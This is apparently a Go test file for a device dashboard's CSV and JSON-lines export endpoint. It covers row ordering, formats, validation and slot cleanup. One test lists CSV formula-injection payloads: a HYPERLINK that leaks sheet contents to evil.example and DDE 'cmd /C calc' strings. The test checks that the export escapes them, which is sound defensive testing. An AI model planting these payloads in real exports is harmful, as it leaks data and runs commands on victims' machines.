package api_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"devicehub/tsdb"
)

// export posts query to /api/dashboard/_export with the query string qs
// and the Accept header accept (if any), and returns the response, which
// the caller closes.
func (e *env) export(qs, accept string, query any) *http.Response {
	e.t.Helper()
	body, err := json.Marshal(query)
	if err != nil {
		e.t.Fatal(err)
	}
	req, err := http.NewRequest("POST", e.base+"/api/dashboard/_export"+qs, bytes.NewReader(body))
	if err != nil {
		e.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Access-Token", e.token)
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	return res
}

// exportText returns a successful export's body.
func (e *env) exportText(qs, accept string, query any) (string, http.Header) {
	e.t.Helper()
	res := e.export(qs, accept, query)
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		e.t.Fatalf("export: %v", err)
	}
	if res.StatusCode != 200 {
		e.t.Fatalf("export %s: %d %s", qs, res.StatusCode, b)
	}
	return string(b), res.Header
}

// TestExportManyWindows stores 200,000 values of one property and reads
// them back through a CSV export, row by row against what was stored: all
// of them, in order, with both time columns and exact values, across the
// windows the export reads ClickHouse in (about 65,536 rows each, so four
// here). The size is not the rule: that every value of every window comes
// out in order is; the windows' edges at any window size are tsdb's
// TestExportHistory, and a million values and more BenchmarkExport's (a
// million cost this test 40-50 s under the race detector).
func TestExportManyWindows(t *testing.T) {
	t.Parallel()
	e, db := dashEnv(t)
	const n = 200_000
	base := time.Date(2026, 1, 2, 3, 4, 5, 0, shanghai).UnixMilli()
	// Two values per millisecond, the larger second: time then value
	// order is i order. Values are exact in binary.
	at := func(i int) int64 { return base + int64(i/2) }
	value := func(i int) float64 { return float64(i)*0.25 - 1000.5 }
	ctx := context.Background()
	batch := make([]tsdb.PropertyValue, 0, 100_000)
	for i := range n {
		batch = append(batch, tsdb.PropertyValue{Time: time.UnixMilli(at(i)), ProductID: "dp", DeviceID: "dd",
			Property: "temp", ValueType: "number", Num: value(i)})
		if len(batch) == cap(batch) {
			if err := db.Insert(ctx, nil, batch); err != nil {
				t.Fatal(err)
			}
			batch = batch[:0]
		}
	}
	res := e.export("?format=csv", "", map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties",
		"dimension": "history", "params": map[string]any{"deviceId": "dd", "properties": []string{"temp"}}})
	defer res.Body.Close()
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		b, _ := io.ReadAll(res.Body)
		t.Fatalf("export: %d %s: %.300s", res.StatusCode, res.Header.Get("Content-Type"), b)
	}
	r := csv.NewReader(bufio.NewReaderSize(res.Body, 1<<16))
	r.ReuseRecord = true
	head, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(head, ","); got != "timestamp,time,deviceId,property,type,value,outsideModel" {
		t.Fatalf("header %q", got)
	}
	i := 0
	for ; ; i++ {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("row %d: %v", i, err)
		}
		if i >= n {
			t.Fatalf("more than %d rows: %q", n, rec)
		}
		ms, err := strconv.ParseInt(rec[0], 10, 64)
		if err != nil || ms != at(i) {
			t.Fatalf("row %d: timestamp %q, want %d", i, rec[0], at(i))
		}
		tm, err := time.Parse(time.RFC3339Nano, rec[1])
		if err != nil || tm.UnixMilli() != at(i) || !strings.HasSuffix(rec[1], "+08:00") {
			t.Fatalf("row %d: time %q, want %s", i, rec[1], time.UnixMilli(at(i)).In(shanghai).Format(time.RFC3339Nano))
		}
		v, err := strconv.ParseFloat(rec[5], 64)
		if err != nil || v != value(i) || rec[2] != "dd" || rec[3] != "temp" || rec[4] != "float" || rec[6] != "" {
			t.Fatalf("row %d: %q, want value %v", i, rec, value(i))
		}
	}
	if i != n {
		t.Fatalf("%d rows, want %d", i, n)
	}
}

// TestExportFormats checks the three kinds of query in both formats
// against endpoint 14's answers, quoting, formatValue and the Accept
// header.
func TestExportFormats(t *testing.T) {
	t.Parallel()
	e, db := dashEnv(t)
	now := time.Now().Truncate(time.Millisecond)
	t0 := now.Add(-time.Hour)
	props := []tsdb.PropertyValue{
		{Time: t0, ProductID: "dp", DeviceID: "dd", Property: "temp", ValueType: "number", Num: 21.5},
		{Time: t0.Add(time.Second), ProductID: "dp", DeviceID: "dd", Property: "temp", ValueType: "number", Num: 1e-7},
		{Time: t0, ProductID: "dp", DeviceID: "dd", Property: "mode", ValueType: "string", Str: "Eco, \"quoted\"\r\nline"},
		{Time: t0, ProductID: "dp", DeviceID: "dd", Property: "on", ValueType: "bool", Num: 1, Str: "true"},
		{Time: t0, ProductID: "dp", DeviceID: "dd", Property: "extra", ValueType: "json", Str: `{"a":[1,2]}`},
	}
	msgs := []tsdb.Message{{Time: t0, ProductID: "dp", DeviceID: "dd", Direction: "up", MessageType: "REPORT_PROPERTY",
		MessageID: "x1", Topic: "/dp/dd/properties/report", Payload: []byte("{}")}}
	if err := db.Insert(context.Background(), msgs, props); err != nil {
		t.Fatal(err)
	}
	iso := func(tm time.Time) string { return tm.In(shanghai).Format("2006-01-02T15:04:05.000+08:00") }
	history := map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "history",
		"params": map[string]any{"deviceId": "dd"}}

	// History as CSV, every property by name, formatValue from the model;
	// outsideModel last: extra is not in the model, mode's value is none
	// of its enum's elements.
	got, hdr := e.exportText("?formatValue=true", "", history)
	want := "timestamp,time,deviceId,property,type,value,formatValue,outsideModel\r\n" +
		fmt.Sprintf("%d,%s,dd,extra,json,\"{\"\"a\"\":[1,2]}\",\"{\"\"a\"\":[1,2]}\",undeclared\r\n", t0.UnixMilli(), iso(t0)) +
		fmt.Sprintf("%d,%s,dd,mode,enum,\"Eco, \"\"quoted\"\"\r\nline\",\"Eco, \"\"quoted\"\"\r\nline\",not_in_enum\r\n", t0.UnixMilli(), iso(t0)) +
		fmt.Sprintf("%d,%s,dd,on,boolean,true,On,\r\n", t0.UnixMilli(), iso(t0)) +
		fmt.Sprintf("%d,%s,dd,temp,float,21.5,21.50%%,\r\n", t0.UnixMilli(), iso(t0)) +
		fmt.Sprintf("%d,%s,dd,temp,float,1e-7,0.00%%,\r\n", t0.Add(time.Second).UnixMilli(), iso(t0.Add(time.Second)))
	if got != want {
		t.Fatalf("history CSV:\n%q\nwant\n%q", got, want)
	}
	if cd := hdr.Get("Content-Disposition"); cd != `attachment; filename=dp-dd-history.csv` {
		t.Fatalf("Content-Disposition %q", cd)
	}
	// The same as JSON lines, chosen by Accept; the newest value only.
	history["params"] = map[string]any{"deviceId": "dd", "properties": []string{"temp", "on"}, "history": 1}
	got, hdr = e.exportText("", "application/x-ndjson", history)
	want = fmt.Sprintf(`{"timestamp":%d,"time":"%s","deviceId":"dd","property":"temp","type":"float","value":1e-7,"outsideModel":null}`+"\n"+
		`{"timestamp":%d,"time":"%s","deviceId":"dd","property":"on","type":"boolean","value":true,"outsideModel":null}`+"\n",
		t0.Add(time.Second).UnixMilli(), iso(t0.Add(time.Second)), t0.UnixMilli(), iso(t0))
	if got != want || hdr.Get("Content-Type") != "application/x-ndjson" {
		t.Fatalf("history JSON lines (%s):\n%s\nwant\n%s", hdr.Get("Content-Type"), got, want)
	}
	// Values outside the model are marked as endpoint 14 marks them.
	history["params"] = map[string]any{"deviceId": "dd", "properties": []string{"mode", "extra"}, "history": 1}
	got, _ = e.exportText("?format=ndjson", "", history)
	want = fmt.Sprintf(`{"timestamp":%d,"time":"%s","deviceId":"dd","property":"mode","type":"enum","value":"Eco, \"quoted\"\r\nline",`+
		`"outsideModel":{"text":"Not one of the enum's elements","value":"not_in_enum"}}`+"\n"+
		`{"timestamp":%d,"time":"%s","deviceId":"dd","property":"extra","type":"json","value":{"a":[1,2]},`+
		`"outsideModel":{"text":"Not in the thing model","value":"undeclared"}}`+"\n",
		t0.UnixMilli(), iso(t0), t0.UnixMilli(), iso(t0))
	if got != want {
		t.Fatalf("history JSON lines outside the model:\n%s\nwant\n%s", got, want)
	}

	// Message counts: the buckets of endpoint 14, with their start.
	counts := map[string]any{"dashboard": "device", "object": "message", "measurement": "quantity", "dimension": "agg",
		"params": map[string]any{"time": "1h", "limit": 3, "format": "yyyy-MM-dd HH:mm", "productId": "dp"}}
	var multi []aggResult
	e.ok("POST", "/api/dashboard/_multi", []any{counts}, &multi)
	got, _ = e.exportText("?format=ndjson", "text/csv", counts) // the parameter wins
	lines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
	if len(lines) != len(multi) || len(lines) != 3 {
		t.Fatalf("counts: %d lines, endpoint 14 %d: %s", len(lines), len(multi), got)
	}
	var total uint64
	for i, l := range lines {
		var row struct {
			Timestamp  int64
			Time       string
			TimeString string
			Value      uint64
		}
		if err := json.Unmarshal([]byte(l), &row); err != nil {
			t.Fatal(err)
		}
		start := time.UnixMilli(row.Timestamp).In(shanghai)
		if row.TimeString != multi[i].Data.TimeString || row.Value != multi[i].Data.Value ||
			row.Time != iso(start) || start.Format("2006-01-02 15:04") != row.TimeString {
			t.Fatalf("counts line %d: %s, endpoint 14: %+v", i, l, multi[i])
		}
		total += row.Value
	}
	if total != 1 {
		t.Fatalf("counts: %d messages, want 1", total)
	}

	// Property aggregates, CSV, with formatValue and an empty bucket.
	agg := map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "agg",
		"params": map[string]any{"deviceId": "dd", "properties": []string{"temp", "count"}, "agg": "max", "time": "1h", "limit": 2, "format": "HH:mm"}}
	got, _ = e.exportText("?format=csv&formatValue=1", "", agg)
	cur := now.In(shanghai).Truncate(time.Hour)
	prev := cur.Add(-time.Hour)
	if !t0.Before(cur) {
		prev, cur = cur, cur.Add(time.Hour) // not reached: t0 is an hour ago
	}
	row := func(start time.Time, prop, v, f string) string {
		return fmt.Sprintf("%d,%s,%s,%s,max,%s,%s\r\n", start.UnixMilli(), iso(start), start.Format("15:04"), prop, v, f)
	}
	want = "timestamp,time,timeString,property,agg,value,formatValue\r\n" +
		row(cur, "temp", "", "") + row(prev, "temp", "21.5", "21.50%") + row(cur, "count", "", "") + row(prev, "count", "", "")
	if got != want {
		t.Fatalf("aggregates CSV:\n%q\nwant\n%q", got, want)
	}
}

// TestExportCSVFormulas is the attacker's side of CSV injection: a device
// reports text values a spreadsheet would run as formulas (a HYPERLINK
// that leaks the sheet, a DDE command); the CSV export writes each with a
// leading ' so a spreadsheet shows it as text, the rest of it as sent.
// Numbers stay numbers, negative ones included, and the JSON lines keep
// every value as sent.
func TestExportCSVFormulas(t *testing.T) {
	t.Parallel()
	e, db := dashEnv(t)
	t0 := time.Now().Truncate(time.Second).Add(-time.Hour)
	attacks := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"-Inf",
	}
	plain := []string{"-3.5", "+12", "1e3", "Eco", "a=b"}
	var props []tsdb.PropertyValue
	for i, v := range append(append([]string(nil), attacks...), plain...) {
		props = append(props, tsdb.PropertyValue{Time: t0.Add(time.Duration(i) * time.Second), ProductID: "dp", DeviceID: "dd",
			Property: "mode", ValueType: "string", Str: v})
	}
	props = append(props, tsdb.PropertyValue{Time: t0, ProductID: "dp", DeviceID: "dd", Property: "temp", ValueType: "number", Num: -3.5})
	if err := db.Insert(context.Background(), nil, props); err != nil {
		t.Fatal(err)
	}
	history := map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "history",
		"params": map[string]any{"deviceId": "dd", "properties": []string{"mode", "temp"}, "history": 100}}
	got, _ := e.exportText("?format=csv", "", history)
	records, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatalf("%v:\n%s", err, got)
	}
	cells := map[string]string{} // value as sent -> cell
	for _, r := range records[1:] {
		if r[3] == "temp" {
			if r[5] != "-3.5" {
				t.Errorf("number -3.5 written %q", r[5])
			}
			continue
		}
		sent := strings.TrimPrefix(r[5], "'")
		cells[sent] = r[5]
	}
	for _, a := range attacks {
		if c, ok := cells[a]; !ok || c != "'"+a {
			t.Errorf("%q written %q (found %v), want it after a '", a, c, ok)
		}
	}
	for _, v := range plain {
		if c := cells[v]; c != v {
			t.Errorf("%q written %q", v, c)
		}
	}
	got, _ = e.exportText("?format=ndjson", "", history)
	values := map[any]bool{}
	for _, l := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
		var row struct{ Value any }
		if err := json.Unmarshal([]byte(l), &row); err != nil {
			t.Fatal(err)
		}
		values[row.Value] = true
	}
	for _, a := range attacks {
		if !values[a] {
			t.Errorf("JSON lines: %q not as sent", a)
		}
	}
}

// TestExportBadInput: every refusal is the envelope, before any row.
func TestExportBadInput(t *testing.T) {
	t.Parallel()
	e, _ := dashEnv(t)
	history := func(params map[string]any) map[string]any {
		return map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "history", "params": params}
	}
	f := func(qs string, body any, field string) {
		t.Helper()
		res := e.export(qs, "", body)
		r := e.envelope("POST", "/api/dashboard/_export"+qs, res)
		if r.HTTPStatus != 400 || r.Code != "illegal_argument" || !strings.Contains(r.Message, field) {
			t.Fatalf("%s %v: want 400 illegal_argument naming %s, got %d: %s", qs, body, field, r.HTTPStatus, r.raw)
		}
	}
	ok := history(map[string]any{"deviceId": "dd"})
	f("?format=xlsx", ok, "format")
	f("?formatValue=maybe", ok, "formatValue")
	f("", []any{ok}, "body")
	f("", map[string]any{"dashboard": "device"}, "body.object")
	f("", history(map[string]any{}), "body.params.deviceId")
	if r := e.envelope("POST", "export", e.export("", "", history(map[string]any{"deviceId": "nope"}))); r.HTTPStatus != 404 || r.Code != "not_found" {
		t.Fatalf("unknown device: %d %s", r.HTTPStatus, r.raw)
	}
	f("", history(map[string]any{"deviceId": "dd", "history": 0}), "body.params.history")
	f("", history(map[string]any{"deviceId": "dd", "from": "yesterday"}), "body.params.from")
	f("", history(map[string]any{"deviceId": "dd", "properties": []string{""}}), "body.params.properties[0]")
	f("", map[string]any{"dashboard": "device", "object": "other", "measurement": "properties", "dimension": "history",
		"params": map[string]any{"deviceId": "dd"}}, "body.object")
	f("", map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "agg",
		"params": map[string]any{"deviceId": "dd", "properties": []string{"mode"}, "agg": "avg"}}, "body.params.properties[0]")
	f("", map[string]any{"dashboard": "device", "object": "message", "measurement": "quantity", "dimension": "agg",
		"params": map[string]any{"time": "2d"}}, "body.params.time")
	f("", map[string]any{"dashboard": "device", "object": "message", "measurement": "quantity", "dimension": "agg",
		"params": map[string]any{"limit": 10001}}, "body.params.limit")
}

// TestExportClientGone: a client that leaves mid-export frees its export
// slot: more exports than there are slots, each abandoned after its first
// rows, leave the next one to run (a leaked slot would make it wait 2 s
// and answer 503).
func TestExportClientGone(t *testing.T) {
	t.Parallel()
	e, db := dashEnv(t)
	const n = 300_000 // about 20 MB of CSV: more than the sockets' buffers hold
	base := time.Now().Add(-time.Hour).UnixMilli()
	batch := make([]tsdb.PropertyValue, n)
	for i := range batch {
		batch[i] = tsdb.PropertyValue{Time: time.UnixMilli(base + int64(i)), ProductID: "dp", DeviceID: "dd", Property: "temp", ValueType: "number", Num: float64(i)}
	}
	if err := db.Insert(context.Background(), nil, batch); err != nil {
		t.Fatal(err)
	}
	query := map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "history",
		"params": map[string]any{"deviceId": "dd"}}
	for i := range 6 {
		res := e.export("", "", query)
		if res.StatusCode != 200 {
			b, _ := io.ReadAll(res.Body)
			t.Fatalf("export %d: %d %s", i, res.StatusCode, b)
		}
		if _, err := io.ReadFull(res.Body, make([]byte, 64<<10)); err != nil {
			t.Fatal(err)
		}
		res.Body.Close() // mid-export: the transport closes the connection
	}
	got, _ := e.exportText("", "", map[string]any{"dashboard": "device", "object": "message", "measurement": "quantity",
		"dimension": "agg", "params": map[string]any{"limit": 1}})
	if !strings.HasPrefix(got, "timestamp,time,timeString,value\r\n") {
		t.Fatalf("export after abandoned ones: %q", got)
	}
}
